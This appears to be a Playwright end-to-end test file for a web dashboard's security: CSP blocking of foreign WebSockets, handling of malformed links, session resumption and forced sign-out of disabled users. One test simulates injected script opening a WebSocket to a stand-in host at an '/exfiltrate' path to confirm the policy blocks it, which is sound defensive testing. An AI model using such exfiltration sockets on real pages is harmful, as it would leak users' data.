// The dashboard in Chromium under BASE_PATH: its live socket works with connect-src 'self' while other hosts are blocked; a broken link shows "not found"; an ended session returns to sign-in.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { browserUnavailable, launchBrowser, VIEWPORT } from '../e2e/browser';
import { ADMIN_PASSWORD, startE2eServer, VIEWER, type E2eServer } from '../e2e/server';

const STEP_MS = 10_000;
const skip = browserUnavailable();

describe('dashboard security in Chromium', { skip: skip ?? false, timeout: 120_000 }, () => {
  let server: E2eServer;
  let browser: Browser;
  const problems: string[] = [];

  /** A fresh signed-in page; page errors and console errors (CSP reports included) are collected. */
  const signedIn = async (username: string, password: string): Promise<Page> => {
    const context = await browser.newContext({ viewport: VIEWPORT, locale: 'en-US' });
    const page = await context.newPage();
    page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
    page.on('console', (message) => {
      if (message.type() === 'error' && !message.text().startsWith('Failed to load resource')) problems.push(message.text());
    });
    await page.goto(server.url, { timeout: STEP_MS });
    await page.getByLabel('Username').fill(username);
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.locator('header.top').waitFor({ timeout: STEP_MS });
    return page;
  };

  before(async () => {
    server = await startE2eServer();
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  test("the live socket connects under BASE_PATH with connect-src 'self', and a socket to another host is blocked", async () => {
    problems.length = 0;
    const page = await signedIn('admin', ADMIN_PASSWORD);
    await page.locator('.live[data-status="live"]').waitFor({ timeout: STEP_MS });
    assert.match(page.url(), /\/patchlens\//);
    // What a script injected into the page would try: open a WebSocket to a host of its choosing.
    const outcome = await page.evaluate(
      (target) =>
        new Promise<string>((resolve) => {
          const violations: string[] = [];
          document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
          let socket: WebSocket;
          try {
            socket = new WebSocket(target);
          } catch (error) {
            resolve(`thrown: ${String(error)}`);
            return;
          }
          // Chromium reports the violation first, then fails the socket with `error` (a refused connection, too).
          socket.onerror = socket.onclose = () => resolve(violations.length > 0 ? `blocked: ${violations.join(', ')}` : 'not blocked by the policy');
          setTimeout(() => resolve(`neither blocked nor failed within 5 s (${violations.join(', ')})`), 5_000);
        }),
      'ws://127.0.0.2:9/exfiltrate',
    );
    assert.match(outcome, /^(blocked: connect-src ws:\/\/127\.0\.0\.2|thrown: SecurityError)/, outcome);
    const unexpected = problems.filter((text) => !text.includes('127.0.0.2'));
    assert.deepEqual(unexpected, [], 'no other policy violation or page error (the dashboard\'s own socket and API calls pass)');
    await page.context().close();
  });

  test('a link with broken percent-encoding shows "Page not found" instead of throwing', async () => {
    problems.length = 0;
    const page = await signedIn('admin', ADMIN_PASSWORD);
    await page.goto(`${server.url}#/devices/%E0%A4%A`, { timeout: STEP_MS });
    await page.getByRole('heading', { level: 1, name: 'Page not found' }).waitFor({ timeout: STEP_MS });
    await page.getByRole('link', { name: 'Go to the overview' }).click();
    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor({ timeout: STEP_MS });
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test('a socket ended while the browser already holds a newer session resumes instead of asking to sign in', async () => {
    problems.length = 0;
    const page = await signedIn('admin', ADMIN_PASSWORD);
    await page.locator('.live[data-status="live"]').waitFor({ timeout: STEP_MS });
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { liveStatuses: string[] }).liveStatuses = seen;
      const badge = document.querySelector('.live')!;
      new MutationObserver(() => seen.push(badge.getAttribute('data-status') ?? '')).observe(badge, { attributes: true, attributeFilter: ['data-status'] });
    });
    // The browser gets a second session (as a sign-in in another tab would give it), then the first one ends.
    const api = (path: string) => `${server.url}api/v1${path}`;
    const [old] = await page.context().cookies();
    const fresh = await fetch(api('/auth/login'), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }) });
    const [name, value] = (fresh.headers.get('set-cookie') ?? '').split(';')[0]!.split('=') as [string, string];
    await page.context().addCookies([{ ...old!, name, value }]);
    const oldCookie = `${old!.name}=${old!.value}`;
    const { csrfToken } = (await (await fetch(api('/auth/me'), { headers: { Cookie: oldCookie } })).json()) as { csrfToken: string };
    assert.equal((await fetch(api('/auth/logout'), { method: 'POST', headers: { Cookie: oldCookie, 'x-csrf-token': csrfToken } })).status, 204);
    await page.waitForFunction(
      () => {
        const seen = (window as unknown as { liveStatuses: string[] }).liveStatuses;
        return seen.includes('offline') && seen[seen.length - 1] === 'live';
      },
      undefined,
      { timeout: STEP_MS },
    );
    assert.equal(await page.locator('header.top').count(), 1, 'still signed in');
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test('when an admin disables a signed-in user, that user\'s open dashboard returns to sign-in by itself', async () => {
    const page = await signedIn(VIEWER.username, VIEWER.password);
    await page.locator('.live[data-status="live"]').waitFor({ timeout: STEP_MS });
    const users = (await server.admin('GET', '/admin/users')).body as { items: { id: number; username: string }[] };
    const viewer = users.items.find((user) => user.username === VIEWER.username)!;
    assert.equal((await server.admin('PATCH', `/admin/users/${viewer.id}`, { disabled: true })).status, 200);
    // At once, by the socket being closed: the periodic credential re-check (LIVE_RECHECK, 30 s) would come only
    // after this bound, which a busy machine does not reach.
    await page.getByRole('button', { name: 'Sign in' }).waitFor({ timeout: STEP_MS });
    assert.equal(await page.locator('header.top').count(), 0, 'the signed-in shell is gone');
    await page.context().close();
  });
});
